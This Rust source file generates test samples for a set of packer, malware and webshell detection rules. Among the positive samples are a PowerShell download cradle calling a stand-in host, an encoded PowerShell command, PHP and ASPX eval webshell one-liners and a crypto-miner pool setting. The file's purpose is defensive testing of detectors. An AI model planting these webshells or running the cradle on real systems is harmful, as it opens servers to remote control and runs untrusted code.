//! The samples of the bundled rules (`corpus/rules/`): a positive and a
//! negative sample for every rule in `rules/`, made here byte by byte so
//! that they are small, ours, and the same on every run.
//!
//! PE and ELF files are laid out by hand by [`Pe`] and [`Elf`]: just the
//! headers, sections, imports and overlay that the rules look at, valid
//! enough for YARA-X's and sigscan's parsers.

/// A sample: the rule it is for, whether the rule must match it, and its
/// bytes.
pub struct Sample {
    /// The rule's identifier.
    pub rule: &'static str,
    /// Whether the rule matches it.
    pub positive: bool,
    /// The contents.
    pub data: Vec<u8>,
}

impl Sample {
    /// The file name under `corpus/rules/`: `RULE.pos` or `RULE.neg`.
    pub fn file_name(&self) -> String {
        let ext = if self.positive { "pos" } else { "neg" };
        format!("{}.{ext}", self.rule)
    }
}

fn put16(out: &mut [u8], at: usize, v: u16) {
    out[at..at + 2].copy_from_slice(&v.to_le_bytes());
}

fn put32(out: &mut [u8], at: usize, v: u32) {
    out[at..at + 4].copy_from_slice(&v.to_le_bytes());
}

fn put64(out: &mut [u8], at: usize, v: u64) {
    out[at..at + 8].copy_from_slice(&v.to_le_bytes());
}

/// Section flags (`IMAGE_SCN_*`): code, executable, readable.
pub const SCN_CODE: u32 = 0x6000_0020;
/// Initialised read-only data.
pub const SCN_RDATA: u32 = 0x4000_0040;
/// Initialised data, readable and writable.
pub const SCN_DATA: u32 = 0xC000_0040;
/// Code that is also writable: what packers leave behind.
pub const SCN_RWX: u32 = 0xE000_0020;

/// A section of a [`Pe`].
pub struct Section {
    /// Its name, at most 8 bytes.
    pub name: &'static str,
    /// `IMAGE_SCN_*` flags.
    pub characteristics: u32,
    /// Its raw data (padded to the file alignment).
    pub data: Vec<u8>,
}

/// A 32-bit PE executable, laid out by [`Pe::build`]: headers in the first
/// 0x200 bytes, section `i` at virtual address `0x1000 * (i + 1)` and file
/// offset after the previous one, imports in a last `.idata` section, then
/// the overlay.
#[derive(Default)]
pub struct Pe {
    /// The sections, in order.
    pub sections: Vec<Section>,
    /// The entry point, relative to the start of the section given.
    pub entry: (usize, u32),
    /// An entry point RVA that overrides `entry` (for anomalies).
    pub entry_rva: Option<u32>,
    /// Imported functions by DLL.
    pub imports: Vec<(&'static str, Vec<&'static str>)>,
    /// Bytes after the last section.
    pub overlay: Vec<u8>,
}

const FILE_ALIGN: usize = 0x200;
const SECT_ALIGN: u32 = 0x1000;

fn align(n: usize, to: usize) -> usize {
    n.div_ceil(to).max(1) * to
}

/// The import directory, placed at RVA `base`: descriptors, lookup and
/// address tables, hint/name entries and DLL names.
fn import_data(base: u32, imports: &[(&str, Vec<&str>)]) -> Vec<u8> {
    let tables: usize =
        imports.iter().map(|(_, f)| (f.len() + 1) * 4 * 2).sum();
    let mut thunks = (imports.len() + 1) * 20;
    let mut out = vec![0u8; thunks + tables];
    let rva = |off: usize| base + off as u32;
    for (i, (dll, funcs)) in imports.iter().enumerate() {
        let ilt = thunks;
        let iat = ilt + (funcs.len() + 1) * 4;
        thunks = iat + (funcs.len() + 1) * 4;
        for (j, f) in funcs.iter().enumerate() {
            let hint = rva(out.len());
            out.extend_from_slice(&[0, 0]);
            out.extend_from_slice(f.as_bytes());
            out.push(0);
            if out.len() % 2 == 1 {
                out.push(0);
            }
            put32(&mut out, ilt + j * 4, hint);
            put32(&mut out, iat + j * 4, hint);
        }
        let name = rva(out.len());
        out.extend_from_slice(dll.as_bytes());
        out.push(0);
        let d = i * 20;
        put32(&mut out, d, rva(ilt));
        put32(&mut out, d + 12, name);
        put32(&mut out, d + 16, rva(iat));
    }
    out
}

impl Pe {
    /// The file.
    pub fn build(&self) -> Vec<u8> {
        let mut sections: Vec<(&str, u32, Vec<u8>)> = self
            .sections
            .iter()
            .map(|s| (s.name, s.characteristics, s.data.clone()))
            .collect();
        let mut import_dir = (0, 0);
        if !self.imports.is_empty() {
            let base = SECT_ALIGN * (sections.len() as u32 + 1);
            let data = import_data(base, &self.imports);
            import_dir = (base, data.len() as u32);
            sections.push((".idata", SCN_DATA, data));
        }
        let n = sections.len();
        let mut out = vec![0u8; FILE_ALIGN];
        out[0..2].copy_from_slice(b"MZ");
        put32(&mut out, 0x3C, 0x40);
        let pe = 0x40;
        out[pe..pe + 4].copy_from_slice(b"PE\0\0");
        let coff = pe + 4;
        put16(&mut out, coff, 0x14C); // i386
        put16(&mut out, coff + 2, n as u16);
        put16(&mut out, coff + 16, 0xE0); // optional header size
        put16(&mut out, coff + 18, 0x0102); // executable, 32-bit
        let opt = coff + 20;
        put16(&mut out, opt, 0x10B); // PE32
        let entry = self
            .entry_rva
            .unwrap_or(SECT_ALIGN * (self.entry.0 as u32 + 1) + self.entry.1);
        put32(&mut out, opt + 16, entry);
        put32(&mut out, opt + 20, SECT_ALIGN);
        put32(&mut out, opt + 28, 0x40_0000); // image base
        put32(&mut out, opt + 32, SECT_ALIGN);
        put32(&mut out, opt + 36, FILE_ALIGN as u32);
        put16(&mut out, opt + 40, 4);
        put16(&mut out, opt + 48, 4);
        put32(&mut out, opt + 56, SECT_ALIGN * (n as u32 + 1));
        put32(&mut out, opt + 60, FILE_ALIGN as u32);
        put16(&mut out, opt + 68, 2); // GUI
        put32(&mut out, opt + 72, 0x10_0000);
        put32(&mut out, opt + 76, 0x1000);
        put32(&mut out, opt + 80, 0x10_0000);
        put32(&mut out, opt + 84, 0x1000);
        put32(&mut out, opt + 92, 16);
        let dirs = opt + 96;
        put32(&mut out, dirs + 8, import_dir.0);
        put32(&mut out, dirs + 12, import_dir.1);
        let mut offset = FILE_ALIGN;
        for (i, (name, flags, data)) in sections.iter().enumerate() {
            let h = opt + 0xE0 + i * 40;
            let raw = align(data.len(), FILE_ALIGN);
            out[h..h + name.len()].copy_from_slice(name.as_bytes());
            put32(&mut out, h + 8, raw as u32);
            put32(&mut out, h + 12, SECT_ALIGN * (i as u32 + 1));
            put32(&mut out, h + 16, raw as u32);
            put32(&mut out, h + 20, offset as u32);
            put32(&mut out, h + 36, *flags);
            offset += raw;
        }
        for (_, _, data) in &sections {
            let start = out.len();
            out.extend_from_slice(data);
            out.resize(start + align(data.len(), FILE_ALIGN), 0);
        }
        out.extend_from_slice(&self.overlay);
        out
    }
}

/// A 64-bit ELF executable with one loadable segment covering the whole
/// file, and the code right after the headers.
pub struct Elf {
    /// `p_flags` of the segment (`PF_X` 1, `PF_W` 2, `PF_R` 4).
    pub flags: u32,
    /// What follows the headers.
    pub code: Vec<u8>,
    /// An entry point address that overrides the start of the code (for
    /// anomalies).
    pub entry: Option<u64>,
}

impl Elf {
    /// The file.
    pub fn build(&self) -> Vec<u8> {
        const BASE: u64 = 0x40_0000;
        let headers = 64 + 56;
        let mut out = vec![0u8; headers];
        out[..4].copy_from_slice(b"\x7fELF");
        out[4] = 2; // 64-bit
        out[5] = 1; // little endian
        out[6] = 1;
        put16(&mut out, 16, 2); // ET_EXEC
        put16(&mut out, 18, 0x3E); // x86-64
        put32(&mut out, 20, 1);
        put64(&mut out, 24, self.entry.unwrap_or(BASE + headers as u64));
        put64(&mut out, 32, 64);
        put16(&mut out, 52, 64);
        put16(&mut out, 54, 56);
        put16(&mut out, 56, 1);
        put16(&mut out, 58, 64);
        let size = (headers + self.code.len()) as u64;
        let ph = 64;
        put32(&mut out, ph, 1); // PT_LOAD
        put32(&mut out, ph + 4, self.flags);
        put64(&mut out, ph + 16, BASE);
        put64(&mut out, ph + 24, BASE);
        put64(&mut out, ph + 32, size);
        put64(&mut out, ph + 40, size);
        put64(&mut out, ph + 48, 0x1000);
        out.extend_from_slice(&self.code);
        out
    }
}

/// `n` bytes that look random (xorshift), the same on every run.
pub fn noise(n: usize, seed: u64) -> Vec<u8> {
    let mut x = seed | 1;
    (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

/// A function prologue and return: ordinary compiled code.
const PROLOGUE: &[u8] = b"\x55\x8b\xec\x33\xc0\x5d\xc3";

/// An ordinary program: code, read-only data with `text` in it, data.
fn plain_pe(text: &[u8]) -> Pe {
    let mut rdata = b"Hello from a plain program\0".to_vec();
    rdata.extend_from_slice(text);
    Pe {
        sections: vec![
            Section {
                name: ".text",
                characteristics: SCN_CODE,
                data: PROLOGUE.to_vec(),
            },
            Section {
                name: ".rdata",
                characteristics: SCN_RDATA,
                data: rdata,
            },
            Section {
                name: ".data",
                characteristics: SCN_DATA,
                data: vec![1, 2, 3, 4],
            },
        ],
        imports: vec![("kernel32.dll", vec!["ExitProcess", "GetTickCount"])],
        ..Pe::default()
    }
}

/// A packed program: the packer's sections (the first one executable and
/// writable, where the code is unpacked), the entry point at `ep` in the
/// second.
fn packed_pe(names: [&'static str; 2], ep: &[u8], extra: &[u8]) -> Pe {
    let mut stub = ep.to_vec();
    stub.extend_from_slice(extra);
    Pe {
        sections: vec![
            Section {
                name: names[0],
                characteristics: SCN_RWX,
                data: Vec::new(),
            },
            Section { name: names[1], characteristics: SCN_RWX, data: stub },
        ],
        entry: (1, 0),
        imports: vec![(
            "kernel32.dll",
            vec!["LoadLibraryA", "GetProcAddress", "VirtualProtect"],
        )],
        ..Pe::default()
    }
}

/// ASPack 2.12's entry point: `pushad; call $+8; jmp …`.
pub const ASPACK_EP: &[u8] =
    b"\x60\xe8\x03\x00\x00\x00\xe9\xeb\x04\x5d\x45\x55\xc3\xe8\x01";

/// The overlay of a self-extracting archive: an archive header then
/// compressed-looking bytes.
fn archive(magic: &[u8]) -> Vec<u8> {
    let mut a = magic.to_vec();
    a.extend_from_slice(&noise(2048, 7));
    a
}

/// A text sample.
fn text(s: &str) -> Vec<u8> {
    s.as_bytes().to_vec()
}

const EICAR: &str = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS\
                     -TEST-FILE!$H+H*";

/// Every sample, in rule order.
pub fn all() -> Vec<Sample> {
    let upx_elf = |banner: bool| {
        let mut code = b"\x31\xc0\xc3UPX!\x0d\x0c\x00\x00".to_vec();
        code.extend_from_slice(&noise(200, 3));
        if banner {
            code.extend_from_slice(
                b"$Info: This file is packed with the UPX executable \
                  packer http://upx.sf.net $\n",
            );
        }
        code.extend_from_slice(b"UPX!");
        code
    };
    let process_injection = |funcs: Vec<&'static str>| {
        let mut pe = plain_pe(b"");
        pe.imports.push(("KERNEL32.dll", funcs));
        pe
    };
    let mut hollow = plain_pe(b"");
    hollow.imports = vec![
        (
            "kernel32.dll",
            vec![
                "CreateProcessA",
                "GetThreadContext",
                "SetThreadContext",
                "ResumeThread",
                "WriteProcessMemory",
            ],
        ),
        ("ntdll.dll", vec!["NtUnmapViewOfSection"]),
    ];
    let mut not_hollow = plain_pe(b"");
    not_hollow.imports = vec![(
        "kernel32.dll",
        vec!["CreateProcessA", "ResumeThread", "WaitForSingleObject"],
    )];
    let mut ep_outside = plain_pe(b"");
    ep_outside.entry_rva = Some(0x9000);
    let with_overlay = |overlay: Vec<u8>| {
        let mut pe = plain_pe(b"");
        pe.overlay = overlay;
        pe.build()
    };
    let mut rwx = plain_pe(b"");
    rwx.sections[0].characteristics = SCN_RWX;
    let exe = |pe: Pe| pe.build();
    let s = |rule, positive, data| Sample { rule, positive, data };
    vec![
        s("Test_EICAR", true, text(EICAR)),
        s("Test_EICAR", false, text(&format!("quoted: {EICAR}"))),
        s(
            "Packer_UPX_PE",
            true,
            exe(packed_pe(["UPX0", "UPX1"], b"\x60\xbe", b"UPX!\x0d\x0c")),
        ),
        s(
            "Packer_UPX_PE",
            false,
            exe(plain_pe(b"this text mentions UPX! and UPX0 once")),
        ),
        s(
            "Packer_UPX_ELF",
            true,
            Elf { flags: 7, code: upx_elf(true), entry: None }.build(),
        ),
        s(
            "Packer_UPX_ELF",
            false,
            Elf {
                flags: 5,
                code: b"\x31\xc0\xc3 no UPX! here".to_vec(),
                entry: None,
            }
            .build(),
        ),
        s(
            "Packer_MPRESS_PE",
            true,
            exe(packed_pe([".MPRESS1", ".MPRESS2"], b"\x60\xe8", b"")),
        ),
        s("Packer_MPRESS_PE", false, exe(plain_pe(b".MPRESS1 only"))),
        s(
            "Packer_ASPack_PE",
            true,
            // Found by its entry-point code: the section names are
            // ordinary.
            exe(packed_pe([".text", ".data"], ASPACK_EP, b"")),
        ),
        s(
            "Packer_ASPack_PE",
            false,
            exe(plain_pe(b"\x60\xe8\x03\x00\x00\x00\xe9\xeb\x04\x5d\x45")),
        ),
        s(
            "Packer_Themida_PE",
            true,
            exe(packed_pe([".themida", ".boot"], b"\xb8\x00\x00", b"")),
        ),
        s("Packer_Themida_PE", false, exe(plain_pe(b"Themida .themida"))),
        s(
            "Packer_VMProtect_PE",
            true,
            exe(packed_pe([".vmp0", ".vmp1"], b"\x68\x00\x00", b"")),
        ),
        s("Packer_VMProtect_PE", false, exe(plain_pe(b".vmp0 .vmp1"))),
        s(
            "Packer_Enigma_PE",
            true,
            exe(packed_pe([".enigma1", ".enigma2"], b"\x60\xe8", b"")),
        ),
        s("Packer_Enigma_PE", false, exe(plain_pe(b".enigma1"))),
        s("SFX_PE_Zip", true, with_overlay(archive(b"PK\x03\x04\x14\x00"))),
        s("SFX_PE_Zip", false, exe(plain_pe(b"PK\x03\x04\x14\x00"))),
        s(
            "SFX_PE_7z",
            true,
            with_overlay(archive(b"7z\xbc\xaf\x27\x1c\x00\x04")),
        ),
        s("SFX_PE_7z", false, with_overlay(archive(b"not 7z"))),
        s("SFX_PE_RAR", true, with_overlay(archive(b"Rar!\x1a\x07\x01\x00"))),
        s("SFX_PE_RAR", false, with_overlay(archive(b"Rar?\x1a\x07\x01"))),
        s("Overlay_PE_High_Entropy", true, with_overlay(noise(8192, 11))),
        s(
            "Overlay_PE_High_Entropy",
            false,
            with_overlay(text(&"configuration data=1\n".repeat(400))),
        ),
        s(
            "Imports_Process_Injection",
            true,
            exe(process_injection(vec![
                "VirtualAllocEx",
                "WriteProcessMemory",
                "CreateRemoteThread",
            ])),
        ),
        s(
            "Imports_Process_Injection",
            false,
            exe(process_injection(vec!["VirtualAlloc", "WriteFile"])),
        ),
        s("Imports_Process_Hollowing", true, exe(hollow)),
        s("Imports_Process_Hollowing", false, exe(not_hollow)),
        s("Anomaly_PE_EntryPoint_Outside_Sections", true, exe(ep_outside)),
        s("Anomaly_PE_EntryPoint_Outside_Sections", false, exe(plain_pe(b""))),
        s("Anomaly_PE_Writable_Executable_Section", true, exe(rwx)),
        s("Anomaly_PE_Writable_Executable_Section", false, exe(plain_pe(b""))),
        s(
            "Anomaly_ELF_Writable_Executable_Segment",
            true,
            Elf { flags: 7, code: PROLOGUE.to_vec(), entry: None }.build(),
        ),
        s(
            "Anomaly_ELF_Writable_Executable_Segment",
            false,
            Elf { flags: 5, code: PROLOGUE.to_vec(), entry: None }.build(),
        ),
        s(
            "Anomaly_ELF_EntryPoint_Outside_Segments",
            true,
            Elf { flags: 5, code: PROLOGUE.to_vec(), entry: Some(0x90_0000) }
                .build(),
        ),
        s(
            "Anomaly_ELF_EntryPoint_Outside_Segments",
            false,
            Elf { flags: 5, code: PROLOGUE.to_vec(), entry: None }.build(),
        ),
        s(
            "Script_PowerShell_EncodedCommand",
            true,
            text(
                "cmd /c powershell.exe -NoProfile -enc \
                 SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=\r\n",
            ),
        ),
        s(
            "Script_PowerShell_EncodedCommand",
            false,
            text("powershell.exe -NoProfile -File backup.ps1\r\n"),
        ),
        s(
            "Script_PowerShell_DownloadCradle",
            true,
            text(
                "powershell -c \"IEX (New-Object Net.WebClient).\
                 DownloadString('http://example.invalid/a.ps1')\"\n",
            ),
        ),
        s(
            "Script_PowerShell_DownloadCradle",
            false,
            text(
                "$c = (New-Object Net.WebClient).DownloadString($url)\n\
                 Write-Output $c.Length\n",
            ),
        ),
        s(
            "Webshell_PHP_Eval_Request",
            true,
            text("<?php @eval($_POST['cmd']); ?>\n"),
        ),
        s(
            "Webshell_PHP_Eval_Request",
            false,
            text("<?php echo htmlspecialchars($_GET['q']); ?>\n"),
        ),
        s(
            "Webshell_ASPX_Eval_Request",
            true,
            text(
                "<%@ Page Language=\"Jscript\"%>\
                 <% eval(Request.Item[\"x\"], \"unsafe\"); %>\n",
            ),
        ),
        s(
            "Webshell_ASPX_Eval_Request",
            false,
            text(
                "<%@ Page Language=\"C#\" %>\
                 <% Response.Write(Server.HtmlEncode(Request[\"q\"])); %>\n",
            ),
        ),
        s(
            "Miner_Stratum_Pool",
            true,
            text(
                "{\"url\": \"stratum+tcp://pool.example.invalid:3333\", \
                 \"coin\": \"monero\"}\n",
            ),
        ),
        s(
            "Miner_Stratum_Pool",
            false,
            text("see stratum+tcp://pool.example.invalid:3333 for details\n"),
        ),
    ]
}
